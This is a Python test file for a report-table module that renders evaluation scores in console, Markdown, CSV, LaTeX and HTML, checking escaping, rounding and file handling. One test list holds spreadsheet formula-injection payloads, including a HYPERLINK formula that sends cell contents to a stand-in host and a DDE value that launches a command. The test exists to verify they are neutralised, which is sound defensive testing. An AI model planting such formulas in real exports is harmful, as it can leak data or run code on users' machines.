"""A table in five languages: what is rounded, what is unknown, and texts that are hostile."""

import csv
import io
import math
import re

import pandas as pd
import pytest

from eval.report.page import TEMPLATES
from eval.report.tables import (
    TableSpec,
    comma_separated,
    console,
    csv_cell,
    latex,
    legend,
    markdown,
    new_report,
    page_lines,
    printed,
    replace_report,
    table_from,
    with_rows,
    write_rows,
)
from tests.made.places import cases

PARTS = TEMPLATES.get_template("parts.html").module
CASES = cases(__file__)
HOSTILE = 'a|b & 50%_x #1 $y$ {z} ~^ \\n <b> "q", `c` *d* [e]\nsecond line\r\n'


def made(*rows, name="made", **keys):
    """A small table of three columns."""
    return with_rows(name, keys.pop("title", "Scores"), {"model": "", "DDS": "+.1f", "p": "p"}, rows, **keys)


def read(text):
    """The cells of a CSV."""
    return list(csv.reader(io.StringIO(text, newline="")))


SMALL = made(("bench_avg", -8.84159, 0.00002), ("aio", None, 0.5), note="5% & more")


def test_a_legend_has_the_terms_that_stand_in_the_texts():
    meanings = ["net: less the placebos'.", "pull: of the place.", "placebo: a rewording."]
    assert legend(["(net -3.0)", "2 placebos, network"], meanings) == f"{meanings[0]} {meanings[2]}"
    assert legend(["network"], meanings) == ""


def test_a_small_table_in_five_languages():
    for language in (console, markdown, comma_separated, latex):
        assert language(SMALL).splitlines() == CASES["small"][language.__name__].splitlines()
    cells = re.findall(r">([^<>]+)</t[hd]>", PARTS.data_table(SMALL))
    assert cells == [*("model", "DDS", "p"), *("bench_avg", "-8.8", "&lt;.0001"), *("aio", "–", ".5000")]
    assert "5% &amp; more" in PARTS.data_table(SMALL)


@pytest.mark.parametrize(("cell", "form", "text"), CASES["cells"])
def test_a_cell_is_printed(cell, form, text):
    assert printed(tuple(cell) if isinstance(cell, list) else cell, form) == text


def test_an_interval_is_one_cell_and_two_columns_of_a_csv():
    frame = pd.DataFrame({"judge": ["a", "b"], "low": [-1.26, math.nan], "high": [2.0, math.nan]})
    columns = {"judge": ("judge", ""), "95%": (("low", "high"), ".1f")}
    table = TableSpec(name="made", title="", frame=frame, columns=columns)
    assert table.cells == [["a", "[-1.3, 2.0]"], ["b", "–"]]
    assert comma_separated(table) == "judge,95% low,95% high\na,-1.26,2.0\nb,,\n"


def test_hostile_text_stays_one_cell_in_every_language():
    table = made((HOSTILE, 1.0, 1.0), ("[1.0, 2.0]", 1.0, 1.0), title=HOSTILE, note=HOSTILE)
    assert read(comma_separated(table))[1][0] == HOSTILE.replace("\r\n", "\n")
    assert r'\<b\> "q", \`c\` \*d\* \[e\] second line' in markdown(table).splitlines()[4]
    words = r"a\textbar{}b \& 50\%\_x \#1 \$y\$ \{z\} \textasciitilde{}\textasciicircum{} \textbackslash{}n"
    assert f"\n{words}" in latex(table)
    assert "\n{}[1.0, 2.0] & " in latex(table)  # else an argument of the line break before it
    assert "<b>" not in PARTS.data_table(table)


def test_a_file_listed_twice_is_moved_once_and_of_other_reports_only_those_that_died_are_removed(tmp_path):
    lives, died = tmp_path / ".new.1", tmp_path / ".new.99999999"
    lives.mkdir()
    died.mkdir()
    files = write_rows(new_report(tmp_path), "a", [{"x": 1}])
    assert replace_report([*files, *files]) == [tmp_path / "a.json", tmp_path / "a.csv"]
    assert (lives.exists(), died.exists()) == (True, False)


FORMULAS = ['=HYPERLINK("http://x/"&A1,"y")', "+1+cmd|' /C calc'!A0", "-2+SUM(A1)", "@SUM(A1)", "\t=1", "\r=1", "\n=1"]


def test_an_endless_cell_is_whole_in_files_and_cut_on_the_page():
    table = with_rows("t", "T", {"name": ""}, [["a" * 5000 + "z"]])
    _, ((_, [[cell]]),), _ = page_lines(table)
    assert (len(cell), cell[-1], len(comma_separated(table)) > 5000) == (400, "z", True)


def test_no_text_in_a_csv_file_is_a_formula(tmp_path):
    for text in FORMULAS:
        _, scores = write_rows(tmp_path, "scores", [{"model": text, "datasets": (text, "b"), "dds": -1.5}])
        for written in (comma_separated(made((text, 1.0, 1.0))), scores.read_bytes().decode()):
            assert read(written)[1][0] == f"'{text}"
        assert scores.read_text().rstrip().endswith(",-1.5")
    for number in ("+1.2", "-3.0 [-5.1, 2.0]", "+0.4 ± 0.1", "-12%", "a=1", "–"):
        assert csv_cell(number) == number  # as we print it


@pytest.mark.parametrize("optional", ["[DDS, interval]", "true"])
def test_a_table_of_yaml_leaves_out_optional_columns_that_no_row_has(optional, tmp_path):
    file = tmp_path / "tables.yaml"
    columns = "{model: judge, DDS: [dds, +.1f], interval: [[low, high], +.1f]}"
    file.write_text(f"small:\n  title: Small\n  optional: {optional}\n  columns: {columns}\n")
    frame = pd.DataFrame({"judge": ["a", "b"], "dds": [1.0, None], "low": None})
    assert list(table_from(file, "small", frame).columns) == ["model", "DDS"]
    whole = table_from(file, "small", frame.assign(high=[2.0, 3.0], low=[0.0, 1.0]))
    assert whole.cells[1] == ["b", "–", "[+1.0, +3.0]"]
